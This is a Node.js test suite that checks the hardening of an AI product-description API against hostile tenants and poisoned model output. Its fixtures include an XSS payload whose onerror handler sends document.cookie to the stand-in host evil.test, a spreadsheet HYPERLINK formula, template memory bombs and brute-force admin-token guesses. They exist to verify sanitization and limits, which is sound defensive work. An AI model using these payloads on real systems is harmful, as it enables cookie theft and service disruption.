// What a hostile tenant, a poisoned model answer or a lost message could do to the edge API:
// one test (or more) per defect of the hardening issue, each failing on the code before it.
import { test, beforeEach } from 'node:test';
import assert from 'node:assert/strict';
import {
  API, PROSEO_URL, ADMIN_TOKEN, request, client, admin, createTenant, expectOk, expectError, mock, mockIntegration, products, waitFor,
  waitForJob, allItems, assertCounters, usage, uid, sleep, d1, atomically, sweep, parseCsv, freshMinute,
} from './helpers.mjs';

beforeEach(async () => {
  await mock.reset();
});

const PRODUCT = { name: 'Walnut Cutting Board', keyphrase: 'walnut cutting board', categories: ['Kitchen'], features: ['Solid walnut'], regular_price: '49.00', currency: 'EUR' };

// 1. Templates that allocate without bound -------------------------------------------------------

const BOMBS = [
  '{{ "x" * 100000000 }}',
  '{% for i in range(100000) %}{{ "y" * 100000 }}{% endfor %}',
  '{% set ns = namespace(s="ab") %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s }}',
  '{{ ("z" * 1000000) | replace("z", "zzzzzzzzzz") }}',
];

test('1. templates: string bombs are refused with template_too_complex; the isolate stays up', async () => {
  const { api } = await createTenant();
  for (const template of BOMBS) {
    const options = { template: { custom: template } };
    let err = expectError(await api.post('/prompts/render', { product: PRODUCT, options }), 422, 'template_too_complex');
    assert.equal(typeof err.message, 'string');
    err = expectError(await api.post('/generate', { product: PRODUCT, options }), 422, 'template_too_complex');
      expectOk(await request('GET', '/health'));
  }
  // Stored templates are checked at save time the same way.
  expectError(await api.post('/templates', { name: `bomb-${uid(4)}`, template: { custom: BOMBS[0] } }), 422, 'template_too_complex');
  // In a job the items fail with the code, and the consumer lives on for the next job.
  const job = expectOk(await api.post('/jobs', { name: 'bomb', options: { template: { custom: BOMBS[0] } }, products: products(3) }), 201);
  const done = await waitForJob(api, job.id);
  assert.deepEqual([done.completed, done.failed], [0, 3]);
  for (const i of await allItems(api, job.id)) assert.equal(i.error.code, 'template_too_complex');
  const ok = expectOk(await api.post('/jobs', { name: 'after', products: products(2) }), 201);
  assert.equal((await waitForJob(api, ok.id)).completed, 2);
  assert.equal((await usage(api)).generations, 2, 'failed items are not billed');
});

// 2. The quota, under concurrency ----------------------------------------------------------------

test('2. quota: five 10-product jobs at once on a 10-generation plan → one 201, four 429; billed 10', async () => {
  const { api } = await createTenant({ monthly_generations: 10 });
  const results = await Promise.all(Array.from({ length: 5 }, (_, n) => api.post('/jobs', { name: `race-${n}`, products: products(10) })));
  const statuses = results.map((r) => r.status).sort();
  assert.deepEqual(statuses, [201, 429, 429, 429, 429], results.map(String).join('\n'));
  for (const r of results.filter((x) => x.status === 429)) assert.equal(r.error.code, 'quota_exceeded');
  const created = results.find((r) => r.status === 201).data;
  const during = await usage(api);
  assert.equal(during.generations + during.reserved, 10, JSON.stringify(during));
  assert.equal(during.remaining, 0);
  await waitForJob(api, created.id);
  const after = await usage(api);
  assert.deepEqual([after.generations, after.reserved, after.remaining], [10, 0, 0]);
  // Sequentially too: nothing more fits.
  expectError(await api.post('/jobs', { name: 'one more', products: products(1) }), 429, 'quota_exceeded');
  expectError(await api.post('/generate', { product: PRODUCT }), 429, 'quota_exceeded');
});

test('2. quota: 15 concurrent /generate on a 10-generation plan → exactly 10 succeed and bill', async () => {
  const { api } = await createTenant({ monthly_generations: 10 });
  await mockIntegration(api);
  await mock.script(Array.from({ length: 15 }, () => ({ delay_ms: 400 })));
  const results = await Promise.all(Array.from({ length: 15 }, () => api.post('/generate', { product: PRODUCT })));
  const ok = results.filter((r) => r.status === 200).length;
  const refused = results.filter((r) => r.status === 429 && r.error.code === 'quota_exceeded').length;
  assert.deepEqual([ok, refused], [10, 5], results.map((r) => r.status).join(','));
  const u = await usage(api);
  assert.deepEqual([u.generations, u.reserved, u.remaining], [10, 0, 0]);
  assert.equal((await mock.requests()).length, 10, 'no provider call beyond the quota');
});

test('2. quota: reservations are released on cancel, failure and delete', async () => {
  const { api } = await createTenant({ monthly_generations: 20 });
  await mockIntegration(api);
  const slow = products(6);
  await mock.script([
    ...slow.map((p) => ({ match: `Name: ${p.name}\n`, delay_ms: 2500 })),
  ]);
  const job = expectOk(await api.post('/jobs', { name: 'to cancel', products: slow }), 201);
  assert.equal((await usage(api)).reserved, 6);
  await sleep(500);
  expectOk(await api.post(`/jobs/${job.id}/cancel`));
  const done = await waitForJob(api, job.id);
  const billed = done.completed;
  let u = await usage(api);
  assert.deepEqual([u.generations, u.reserved], [billed, 0], JSON.stringify({ u, done }));
  // Failures release theirs.
  const [bad] = products(1);
  await mock.script([{ match: `Name: ${bad.name}\n`, status: 400 }]);
  const failing = expectOk(await api.post('/jobs', { name: 'fails', products: [bad] }), 201);
  assert.equal((await waitForJob(api, failing.id)).failed, 1);
  u = await usage(api);
  assert.deepEqual([u.generations, u.reserved], [billed, 0]);
  // Deleting a job with pending items releases theirs.
  const more = products(4);
  await mock.script(more.map((p) => ({ match: `Name: ${p.name}\n`, delay_ms: 5000 })));
  const big = expectOk(await api.post('/jobs', { name: 'to delete', products: more }), 201);
  assert.equal((await usage(api)).reserved, 4);
  expectOk(await api.del(`/jobs/${big.id}`));
  assert.equal((await usage(api)).reserved, 0);
  u = await usage(api);
  assert.equal(u.remaining, 20 - u.generations);
});

// 4. Model output is untrusted -------------------------------------------------------------------

const POISON = '<p>A fine board.</p><img src=x onerror="fetch(\'//evil.test/\'+document.cookie)"><script>alert(1)</script><a href="javascript:alert(2)">deal</a>';

test('4. unsafe HTML from the model: /generate returns it sanitized and flagged', async () => {
  const { api } = await createTenant();
  await mockIntegration(api);
  await mock.script([{ fields: { description: POISON, short_description: '<b onclick="x()">Short</b>' } }]);
  const out = expectOk(await api.post('/generate', { product: PRODUCT, max_attempts: 1 }));
  const text = JSON.stringify(out.content);
  for (const bad of ['<script', 'onerror', 'javascript:', 'onclick', '<img']) assert.ok(!text.includes(bad), `${bad} in ${text}`);
  assert.ok(out.content.description.includes('A fine board.'));
  assert.equal(out.unsafe_html, true);
  assert.ok(out.validation.issues.some((i) => i.code === 'unsafe_html' && i.severity === 'error'), JSON.stringify(out.validation));
});

test('4. unsafe HTML in a job: stored sanitized, cannot be approved, never exported; a clean retry wins', async () => {
  const { api } = await createTenant();
  await mockIntegration(api);
  const [p, q] = products(2);
  await mock.script([{ match: `Name: ${p.name}\n`, fields: { description: POISON } }]);
  const job = expectOk(await api.post('/jobs', { name: 'xss', max_attempts: 1, products: [p, q] }), 201);
  await waitForJob(api, job.id);
  const items = await allItems(api, job.id);
  const poisoned = items.find((i) => i.external_id === p.id);
  const clean = items.find((i) => i.external_id === q.id);
  assert.equal(poisoned.status, 'generated');
  assert.equal(poisoned.unsafe_html, true);
  assert.ok(!JSON.stringify(poisoned.content).includes('onerror'));
  const full = expectOk(await api.get(`/items/${poisoned.id}`));
  assert.ok(full.validation.issues.some((i) => i.code === 'unsafe_html'));
  expectError(await api.post(`/items/${poisoned.id}/approve`), 409, 'unsafe_content');
  expectOk(await api.post(`/items/${clean.id}/approve`));
  for (const status of ['approved', 'all', 'generated']) {
    const csv = await api.get(`/jobs/${job.id}/export`, { query: { format: 'csv', status } });
    assert.equal(csv.status, 200);
    for (const bad of ['onerror', '<script', 'javascript:']) assert.ok(!csv.text.includes(bad), `${status}: ${bad}`);
    assert.ok(!csv.text.includes(poisoned.id) && !csv.text.includes(p.name), `${status}: the unsafe item is left out`);
  }
  const json = expectOk(await api.get(`/jobs/${job.id}/export`, { query: { status: 'all' } }));
  assert.deepEqual(json.map((r) => r.item_id), [clean.id]);
  // With attempts to spare, a clean answer beats the unsafe one.
  await mock.script([{ match: `Name: ${p.name}\n`, fields: { description: POISON } }]);
  expectOk(await api.post(`/items/${poisoned.id}/regenerate`, { target_score: 0 }), 202);
  await waitForJob(api, job.id);
  const again = expectOk(await api.get(`/items/${poisoned.id}`));
  assert.equal(again.status, 'generated');
  // max_attempts 1 for this job: the unsafe answer is all it got, and it stays refused.
  assert.equal(again.unsafe_html, true);
  const job2 = expectOk(await api.post('/jobs', { name: 'xss-retry', max_attempts: 3, target_score: 0, products: [p] }), 201);
  await mock.script([{ match: `Name: ${p.name}\n`, fields: { description: POISON } }]);
  await waitForJob(api, job2.id);
  const [second] = await allItems(api, job2.id);
  assert.equal(second.unsafe_html, false, 'the clean second attempt won');
  assert.equal(second.usage.attempts, 2);
  expectOk(await api.post(`/items/${second.id}/approve`));
});

// 5. Bounded work per request -------------------------------------------------------------------

test('5. /validate on 800k tags: a capped report that still counts what it left out', async () => {
  const { api } = await createTenant();
  const description = '<b>'.repeat(800_000);
  const res = await api.post('/validate', { content: { description } });
  const data = expectOk(res);
  assert.ok(data.content.issues.length <= 200, `${data.content.issues.length} issues`);
  // Removals past 50 per field are summed up in one issue per kind ("N more … removals").
  assert.ok(data.content.issues.some((i) => /\d+ more/.test(i.message)) || data.content.truncated > 0, JSON.stringify(data.content).slice(0, 600));
  assert.ok(res.text.length < 200_000, `${res.text.length} bytes answered`);
});

test('5. /analyze on unclosed <p>/<li> megabytes answers', async () => {
  const { api } = await createTenant();
  for (const unit of ['<p>x ', '<li>x ', '<ul><li>x ']) {
    const content = unit.repeat(Math.floor(4_500_000 / unit.length));
    const res = await api.post('/analyze', { content, keyphrase: 'x' });
    expectOk(res);
    assert.ok(res.text.length < 2_000_000, `${unit}: ${res.text.length} bytes answered`);
  }
});

test('5. a chunked body over 5 MB is refused while it streams (413)', async () => {
  const { key } = await createTenant();
  // Its own connection (node:http, no keep-alive). The client sends 5 MiB and 4 KiB more, then
  // stops without ending the body and waits: the answer must come while the body is unfinished.
  // Stopping there matters. A server that closes a connection with upload data it has not read
  // resets it, and TCP may then drop the answer before the client reads it; that happened in CI
  // when the client kept sending 8 MB. An attempt reset all the same answers null and is made
  // again; one with no answer in 60 s fails.
  const http = await import('node:http');
  const upload = () =>
    new Promise((resolve, reject) => {
      let answered = false;
      const req = http.request(`${API}/analyze`, { method: 'POST', agent: false, headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json', 'transfer-encoding': 'chunked' } }, (res) => {
        answered = true;
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (c) => (text += c));
        res.on('end', () => {
          resolve({ status: res.statusCode, json: JSON.parse(text) });
          req.destroy();
        });
        // Closed before its end (after it, the first resolve has won).
        res.on('close', () => resolve(null));
      });
      req.setTimeout(60_000, () => req.destroy(new Error('no answer 60 s after the body passed 5 MiB')));
      req.on('error', (e) => (e.code === 'EPIPE' || e.code === 'ECONNRESET' ? null : reject(e)));
      req.on('close', () => {
        if (!answered) resolve(null);
      });
      const chunks = [...Array.from({ length: 5 }, () => Buffer.alloc(1 << 20, 0x20)), Buffer.alloc(4096, 0x20)];
      const pump = () => {
        while (chunks.length > 0) {
          if (!req.write(chunks.shift())) return req.once('drain', pump);
        }
      };
      pump();
    });
  let answer = null;
  for (let attempt = 0; attempt < 3 && answer === null; attempt++) answer = await upload();
  assert.ok(answer, 'three uploads were reset before an answer');
  const { status, json } = answer;
  assert.equal(status, 413, JSON.stringify(json));
  assert.equal(json.error.code, 'payload_too_large');
  // The runtime is fine afterwards.
  expectOk(await request('GET', '/health'));
});

test('5. a CSV with more rows than a job holds is refused without reading them all', async () => {
  const { api } = await createTenant();
  const header = 'ID,Type,SKU,Name,Published,Regular price\n';
  // 150,000 tiny rows: under the 5 MB body limit, 30 times the products a job may hold.
  const rows = Array.from({ length: 150_000 }, (_, i) => `${i},simple,,P${i},1,1\n`).join('');
  assert.ok(header.length + rows.length < 5 * 1024 * 1024);
  const res = await api.post('/jobs', header + rows, { headers: { 'content-type': 'text/csv' } });
  const err = expectError(res, 422, 'validation_failed');
  assert.deepEqual(err.details.fields.map((f) => [f.path, f.code]), [['/products', 'invalid_length']]);
  assert.match(err.details.fields[0].message, /5000/);
  assert.deepEqual(expectOk(await api.get('/jobs')), [], 'no job was created');
});

// 6. Idempotency ---------------------------------------------------------------------------------

test('6. idempotency: replayed secrets are not kept in plaintext, rows expire', async () => {
  const { api } = await createTenant();
  const key = `k-${uid(12)}`;
  const created = expectOk(await api.post('/keys', { name: 'replayable', scopes: ['jobs:read'] }, { headers: { 'idempotency-key': key } }), 201);
  const replay = await api.post('/keys', { name: 'replayable', scopes: ['jobs:read'] }, { headers: { 'idempotency-key': key } });
  assert.equal(replay.headers.get('idempotent-replayed'), 'true');
  assert.equal(replay.data.key, created.key, 'the retry gets the key it lost');
  const rows = await d1(`SELECT body FROM idempotency_keys WHERE key = '${key}'`);
  assert.equal(rows.length, 1);
  assert.ok(!rows[0].body.includes(created.key), 'the stored answer is sealed');
  assert.ok(!rows[0].body.includes('psk_'), 'no key prefix either');
  // Expired rows are swept.
  await d1(`UPDATE idempotency_keys SET expires_at = 1 WHERE key = '${key}'`);
  await sweep();
  assert.equal((await d1(`SELECT COUNT(*) AS n FROM idempotency_keys WHERE key = '${key}'`))[0].n, 0);
});

test('6. idempotency: the query string is part of the request; keys belong to one credential', async () => {
  const { api } = await createTenant();
  const tpl = expectOk(await api.post('/templates', { name: `t-${uid(4)}`, template: 'short_description' }), 201);
  const csv = 'ID,Type,SKU,Name,Published,Regular price\n1,simple,S1,Oak Lamp,1,10\n';
  const key = `csv-${uid(12)}`;
  const headers = { 'idempotency-key': key, 'content-type': 'text/csv' };
  expectOk(await api.post('/jobs', csv, { headers, query: { name: 'a' } }), 201);
  expectError(await api.post('/jobs', csv, { headers, query: { name: 'a', template_id: tpl.id } }), 409, 'idempotency_key_reused');
  // Another key of the same tenant has its own idempotency space.
  const other = client(expectOk(await api.post('/keys', { name: 'other', scopes: ['*'] }), 201).key);
  const mine = await other.post('/jobs', csv, { headers, query: { name: 'a', template_id: tpl.id } });
  assert.equal(mine.status, 201, String(mine));
  assert.equal(mine.headers.get('idempotent-replayed'), null);
});

test('6. idempotency: a request that died mid-flight does not block its key for a day', async () => {
  const { api } = await createTenant();
  const key = `dead-${uid(12)}`;
  const body = { name: 'retried', scopes: ['jobs:read'] };
  const first = expectOk(await api.post('/keys', body, { headers: { 'idempotency-key': key } }), 201);
  // Turn the stored answer into the placeholder of a request that died minutes ago.
  await d1(`UPDATE idempotency_keys SET status = 0, body = '', locked_until = ${Date.now() - 60_000} WHERE key = '${key}'`);
  const again = await api.post('/keys', body, { headers: { 'idempotency-key': key } });
  assert.equal(again.status, 201, String(again));
  assert.equal(again.headers.get('idempotent-replayed'), null, 'run again, not replayed');
  assert.notEqual(again.data.id, first.id);
  // A live placeholder still answers 409 with Retry-After.
  await d1(`UPDATE idempotency_keys SET status = 0, body = '', locked_until = ${Date.now() + 60_000} WHERE key = '${key}'`);
  const busy = await api.post('/keys', body, { headers: { 'idempotency-key': key } });
  expectError(busy, 409, 'conflict');
  assert.equal(busy.headers.get('retry-after'), '1');
});

test('6. idempotency under concurrency: ten identical job creations make one job', async () => {
  const { api } = await createTenant();
  const key = `par-${uid(12)}`;
  const body = { name: `par-${uid(4)}`, products: products(3) };
  const results = await Promise.all(Array.from({ length: 10 }, () => api.post('/jobs', body, { headers: { 'idempotency-key': key } })));
  const created = results.filter((r) => r.status === 201);
  assert.ok(created.length >= 1, results.map(String).join('\n'));
  assert.ok(results.every((r) => r.status === 201 || (r.status === 409 && r.error.code === 'conflict')), results.map(String).join('\n'));
  assert.equal(new Set(created.map((r) => r.data.id)).size, 1, 'every success is the same job');
  const jobs = expectOk(await api.get('/jobs'));
  assert.equal(jobs.filter((j) => j.name === body.name).length, 1);
});

// 7. Lost messages are recovered -----------------------------------------------------------------

test('7. outbox: items whose messages were never sent are dispatched by the sweeper', async () => {
  const { api } = await createTenant();
  await mockIntegration(api);
  const list = products(5);
  await mock.script(list.map((p) => ({ match: `Name: ${p.name}\n`, delay_ms: 2000 })));
  const job = expectOk(await api.post('/jobs', { name: 'outbox', products: list }), 201);
  // As if send_batch had failed after the commit, or the runtime lost the messages: the
  // pending items have no live message.
  await d1(`UPDATE job_items SET dispatched_at = NULL WHERE job_id = '${job.id}' AND status = 'pending'`);
  await sweep();
  const done = await waitForJob(api, job.id, { timeout: 180000 });
  assertCounters(done);
  assert.deepEqual([done.completed, done.failed], [5, 0]);
  assert.equal((await usage(api)).generations, 5, 'each item billed once');
});

test('7. a stalled job (messages lost after dispatch) recovers without the admin route', async () => {
  const { api } = await createTenant();
  const job = expectOk(await api.post('/jobs', { name: 'stall', products: products(4) }), 201);
  await waitForJob(api, job.id);
  // Pretend its last two items never got their message through, 10 minutes ago.
  const ids = (await allItems(api, job.id)).slice(2).map((i) => `'${i.id}'`).join(',');
  await d1(atomically(
    `UPDATE job_items SET status = 'pending', quota_month = strftime('%Y-%m', 'now'), dispatched_at = ${Date.now() - 600_000}, content = NULL WHERE id IN (${ids})`,
    `UPDATE jobs SET status = 'running', finished_at = NULL, completed = 2, updated_at = ${Date.now() - 600_000} WHERE id = '${job.id}'`,
  ));
  await sweep();
  const done = await waitForJob(api, job.id, { timeout: 180000 });
  assert.deepEqual([done.status, done.completed, done.pending], ['completed', 4, 0]);
});

test('7. a dead run\'s expired lease is reclaimed and the item generated once', async () => {
  const { api } = await createTenant();
  const job = expectOk(await api.post('/jobs', { name: 'lease', products: products(2) }), 201);
  await waitForJob(api, job.id);
  const [item] = await allItems(api, job.id);
  await d1(atomically(
    `UPDATE job_items SET status = 'generating', claim_token = 'clm_dead', lease_until = ${Date.now() - 1000}, quota_month = strftime('%Y-%m', 'now'), content = NULL WHERE id = '${item.id}'`,
    `UPDATE jobs SET status = 'running', finished_at = NULL, completed = 1 WHERE id = '${job.id}'`,
  ));
  await sweep();
  const done = await waitForJob(api, job.id, { timeout: 180000 });
  assert.deepEqual([done.completed, done.pending], [2, 0]);
  assert.equal(expectOk(await api.get(`/items/${item.id}`)).status, 'generated');
});

// 8. Cancel stops billing; provider answers are bounded -------------------------------------------

test('8. an in-flight item that fails transiently after cancel is cancelled, not generated', async () => {
  const { api } = await createTenant();
  await mockIntegration(api);
  const [p] = products(1);
  await mock.script([{ match: `Name: ${p.name}\n`, delay_ms: 2500, status: 503 }]);
  const job = expectOk(await api.post('/jobs', { name: 'cancel-inflight', products: [p] }), 201);
  await waitFor(async () => (await allItems(api, job.id)).some((i) => i.status === 'generating'), { what: 'generating' });
  expectOk(await api.post(`/jobs/${job.id}/cancel`));
  await sleep(6000);
  const [item] = await allItems(api, job.id);
  assert.equal(item.status, 'cancelled');
  assert.equal((await mock.requests()).length, 1, 'never called again');
  const u = await usage(api);
  assert.deepEqual([u.generations, u.reserved], [0, 0]);
  const j = expectOk(await api.get(`/jobs/${job.id}`));
  assertCounters(j);
  assert.deepEqual([j.status, j.cancelled, j.pending], ['cancelled', 1, 0]);
});

test('8. an oversized provider answer is refused, not read whole', async () => {
  const { api } = await createTenant();
  await mockIntegration(api);
  await mock.script([{ status: 200, body: `{"choices":[{"message":{"content":"${'x'.repeat(3 << 20)}"}}]}` }]);
  const err = expectError(await api.post('/generate', { product: PRODUCT, max_attempts: 1 }), 502, 'provider_error');
  assert.match(err.message, /larger than/);
  assert.equal(err.details.retryable, false);
  assert.equal((await usage(api)).reserved, 0);
});

// 9. Privilege and abuse -------------------------------------------------------------------------

test('9. /prompts/render reads a stored template only with templates:read', async () => {
  const { api } = await createTenant();
  const tpl = expectOk(await api.post('/templates', { name: `secret-${uid(4)}`, template: { custom: 'Secret sauce for {{ product.name }}' } }), 201);
  const noRead = client(expectOk(await api.post('/keys', { name: 'gen', scopes: ['generate'] }), 201).key);
  let err = expectError(await noRead.post('/prompts/render', { product: PRODUCT, template_id: tpl.id }), 403, 'forbidden');
  assert.equal(err.details.required, 'templates:read');
  expectOk(await noRead.post('/prompts/render', { product: PRODUCT }));
  expectOk(await api.patch(`/templates/${tpl.id}`, { is_default: true }));
  err = expectError(await noRead.post('/prompts/render', { product: PRODUCT }), 403, 'forbidden');
  assert.equal(err.details.required, 'templates:read');
  const reader = client(expectOk(await api.post('/keys', { name: 'reader', scopes: ['templates:read'] }), 201).key);
  assert.match(expectOk(await reader.post('/prompts/render', { product: PRODUCT })).user, /Secret sauce/);
});

test('9. failed authentication is throttled per client address (the admin token cannot be guessed)', async () => {
  const ip = `198.51.100.${Math.floor(Math.random() * 250) + 1}`;
  await freshMinute(20);
  const guess = (token) => request('POST', '/admin/tenants', { token, body: { name: 'x', slug: `x-${uid(6)}` }, headers: { 'cf-connecting-ip': ip } });
  let throttled = null;
  for (let i = 0; i < 30 && !throttled; i++) {
    const res = await guess(`guess-${i}-${uid(20)}`);
    if (res.status === 429) throttled = res;
    else expectError(res, 401, 'invalid_admin_token');
  }
  assert.ok(throttled, 'throttled within 30 guesses');
  expectError(throttled, 429, 'auth_throttled');
  assert.ok(Number(throttled.headers.get('retry-after')) >= 1);
  // Even the right token is refused from that address for the rest of the window…
  expectError(await guess(ADMIN_TOKEN), 429, 'auth_throttled');
  // …while other addresses are not affected.
  expectOk(await request('POST', '/admin/tenants', { token: ADMIN_TOKEN, body: { name: 'y', slug: `y-${uid(6)}` }, headers: { 'cf-connecting-ip': '203.0.113.9' } }), 201);
});

test('9. every answer says nosniff and is not framable', async () => {
  for (const res of [await request('GET', '/health'), await request('GET', '/templates'), await request('GET', '/nope')]) {
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff', String(res));
    assert.equal(res.headers.get('x-frame-options'), 'DENY');
    assert.match(res.headers.get('content-security-policy'), /default-src 'none'/);
  }
});

test('9. the sweeper deletes old rate-limit windows', async () => {
  // One statement inserts the row and reports it: the dev ticker (scripts/edge-up, every 10 s)
  // runs the same sweeper and once deleted the row between an INSERT and a SELECT.
  const bucket = `key:old-${uid(6)}`;
  const inserted = await d1(`INSERT INTO rate_limits (bucket, window_start, count) VALUES ('${bucket}', 60000, 3) RETURNING bucket`);
  assert.deepEqual(inserted.map((r) => r.bucket), [bucket]);
  await sweep();
  assert.equal((await d1('SELECT COUNT(*) AS n FROM rate_limits WHERE window_start = 60000'))[0].n, 0);
});

// 10. CSV formula injection ----------------------------------------------------------------------

test('10. export cells that a spreadsheet would run as formulas are neutralized', async () => {
  const { api } = await createTenant();
  const p = { ...products(1)[0], name: '=HYPERLINK("http://evil.test","Click")', keyphrase: '-2+3 deal' };
  const job = expectOk(await api.post('/jobs', { name: 'formulas', products: [p] }), 201);
  await waitForJob(api, job.id);
  const res = await api.get(`/jobs/${job.id}/export`, { query: { format: 'csv', status: 'all' } });
  const rows = parseCsv(res.text);
  const header = rows[0];
  const row = rows[1];
  assert.equal(row[header.indexOf('Name')], `'${p.name}`);
  assert.equal(row[header.indexOf('Meta: _yoast_wpseo_focuskw')], `'${p.keyphrase}`);
  for (const r of rows.slice(1)) for (const cell of r) assert.ok(!/^[=+\-@\t\r]/.test(cell), cell);
});

// 11. Stored data is never silently defaulted -----------------------------------------------------

test('11. a stored item that does not decode fails with corrupt_item and is not billed', async () => {
  const { api } = await createTenant();
  await mockIntegration(api);
  const list = products(2);
  const job = expectOk(await api.post('/jobs', { name: 'corrupt', products: list }), 201);
  await waitForJob(api, job.id);
  const before = await usage(api);
  const calls = (await mock.requests()).length;
  const victim = (await allItems(api, job.id)).find((i) => i.external_id === list[1].id);
  // Its stored product is damaged, and it is due for generation again.
  await d1(atomically(
    `UPDATE job_items SET product = '{"name": 42', status = 'pending', content = NULL, quota_month = strftime('%Y-%m', 'now'), dispatched_at = NULL WHERE id = '${victim.id}'`,
    `UPDATE jobs SET status = 'running', finished_at = NULL, completed = 1 WHERE id = '${job.id}'`,
  ));
  await sweep();
  const done = await waitForJob(api, job.id, { timeout: 180000 });
  assertCounters(done);
  const after = expectOk(await api.get(`/items/${victim.id}`));
  assert.equal(after.status, 'failed');
  assert.equal(after.error.code, 'corrupt_item');
  assert.match(after.error.message, /stored product/);
  const u = await usage(api);
  assert.deepEqual([u.generations, u.reserved], [before.generations, 0], 'not billed, reservation released');
  assert.equal((await mock.requests()).length, calls, 'no provider call for the corrupt item');
});

test('QUERY and other unknown methods are 405, not GET', async () => {
  const res = await fetch(`${PROSEO_URL}/api/v1/health`, { method: 'QUERY' });
  assert.equal(res.status, 405);
  assert.match(res.headers.get('allow') || '', /GET/);
});
